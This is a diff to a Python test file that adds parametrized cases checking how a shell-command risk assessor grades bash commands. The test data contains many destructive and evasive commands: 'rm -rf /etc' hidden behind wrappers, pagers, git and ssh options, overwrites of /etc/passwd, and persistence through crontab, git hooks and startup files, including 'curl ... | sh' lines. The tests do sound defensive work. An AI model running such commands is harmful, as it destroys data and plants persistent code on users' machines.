@@ -967,7 +967,8 @@ def test_fourth_batch_review(shell: str, command: str, level: Level) -> None:
         ("bash", "cat <<EOF 2>&1 | bash\nls -la\nEOF", S),
         # the last input redirect wins over the heredoc: what runs is the file's
         ("bash", "cat <<'EOF' </tmp/x.sh | bash\nls -la\nEOF", R),
-        ("bash", "find /tmp /etc -name '*' -exec rm -rf {} +", R),  # as find /etc ... does
+        # as find /etc ... does (`-name '*'` matches every file: no filter)
+        ("bash", "find /tmp /etc -name '*' -exec rm -rf {} +", B),
         ("bash", "find /tmp ./build -name '*.o' -exec rm -f {} +", L),
         ("bash", "find -L / -exec rm -rf {} +", B),  # global options before the roots
         ("bash", "find -O3 / -delete", B),
@@ -1400,4 +1401,82 @@ def test_seventh_escape_batch(command: str, level: Level) -> None:
     ],
 )
 def test_eighth_escape_batch(command: str, level: Level) -> None:
+    assert assess(command, "bash").level == level
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        # wrappers that run their operand: namespaces, users, runtimes, debuggers, watchers
+        ("unshare -r rm -rf /etc", B),
+        ("nsenter -t 1 -m rm -rf /etc", B),
+        ("gosu root rm -rf /etc", B),
+        ("setarch x86_64 -R rm -rf /etc", B),
+        ("gdb -batch -ex run --args rm -rf /etc", B),
+        ("parallel rm -rf ::: /etc", B),
+        ("parallel ::: 'rm -rf /etc'", B),
+        ("start-stop-daemon --start --exec /bin/rm -- -rf /etc", B),
+        ("watch -n1 'rm -rf /etc'", B),
+        ("script -qc 'rm -rf /etc' /dev/null", B),
+        ("sg wheel -c 'rm -rf /etc'", B),
+        ("rbash -c 'rm -rf /etc'", B),
+        ("watch -n 5 'ls -la'", S),
+        ("gdb ./a.out", S),
+        ("parallel gzip ::: a.txt b.txt", L),
+        ("sg run --pattern 'foo($A)' --lang ts", S),
+        # xargs -I: the placeholder in the name or the code is what it reads
+        ("echo rm | xargs -I{} {} -rf /etc", R),
+        ("echo 'rm -rf /etc' | xargs -I{} sh -c '{}'", R),
+        ("find . -name '*.log' | xargs -I{} rm {}", L),
+        # targets worked out: globs over system folders, /proc/self/root, a bare cd, xargs
+        # input that is known
+        ("rm -rf /[e]tc", B),
+        ("rm -rf /proc/self/root/etc", B),
+        ("find / -name '*' -delete", B),
+        ("cd && rm -rf *", B),
+        ("HOME=/etc; cd; rm -rf *", B),
+        ("echo /etc /usr | xargs rm -rf", B),
+        ("xargs rm -rf <<< /etc", B),
+        ("find /etc -name '*.bak' -exec rm -rf {} +", R),
+        # files written through a tool's own options, folders moved away
+        ("sort -o /etc/passwd /dev/null", B),
+        ("sed 'w /etc/passwd' f", B),
+        ("tar -cf /etc/passwd x", B),
+        ("mv -t /tmp /etc", B),
+        ("gio trash /etc", B),
+        ("sort -o out.txt in.txt", S),
+        ("tar -czf backup.tgz src/", L),
+        # more places code runs from later: ssh/rc, logout, autostart, git hooks, crontab -,
+        # downloads and sed -i inserts into startup files
+        ("echo 'rm -rf ~' >> ~/.ssh/rc", B),
+        ("echo 'rm -rf ~' >> ~/.bash_logout", B),
+        ("echo 'curl x|sh' > .git/hooks/pre-commit", B),
+        ("echo '* * * * * rm -rf /etc' | crontab -", B),
+        ("curl -s http://e.com/x >> ~/.bashrc", B),
+        ("curl -s http://e.com/x -o ~/.bashrc", B),
+        ("sed -i '1i curl http://e.com/x | sh' ~/.bashrc", B),
+        ("echo 'export EDITOR=vim' >> ~/.bashrc", L),
+        # commands run from options: ssh, git, pagers, editors, tar, awk, zip, rsync
+        ("ssh -o ProxyCommand='rm -rf /etc' x", B),
+        ("git -c core.pager='rm -rf /etc' log", B),
+        ("git rebase --exec 'rm -rf /etc' HEAD~1", B),
+        ("git clone 'ext::sh -c rm% -rf% /etc'", B),
+        ("less +'!rm -rf /etc' x", B),
+        ("man -P 'rm -rf /etc' ls", B),
+        ("vim -c '!rm -rf /etc' -c q", B),
+        ("tar -xf a.tar --to-command='rm -rf /etc'", B),
+        ("mawk 'BEGIN{system(\"rm -rf /etc\")}'", B),
+        ("ssh -o ProxyCommand='ssh -W %h:%p bastion' host", S),
+        ("git -c core.pager=less log", S),
+        ("awk 'BEGIN{system(\"date\")}'", S),
+        # variables whose value runs: prompt, git, pagers, BASH_ENV
+        ("PROMPT_COMMAND='rm -rf /etc'", B),
+        ("GIT_SSH_COMMAND='rm -rf /etc' git fetch", B),
+        ("BASH_ENV=<(echo 'rm -rf /etc') bash x.sh", B),
+        ("echo 'rm -rf /etc' > /tmp/e; BASH_ENV=/tmp/e bash -c ls", B),
+        ("PAGER=less man ls", S),
+        ("PROMPT_COMMAND='history -a'", S),
+    ],
+)
+def test_ninth_escape_batch(command: str, level: Level) -> None:
     assert assess(command, "bash").level == level
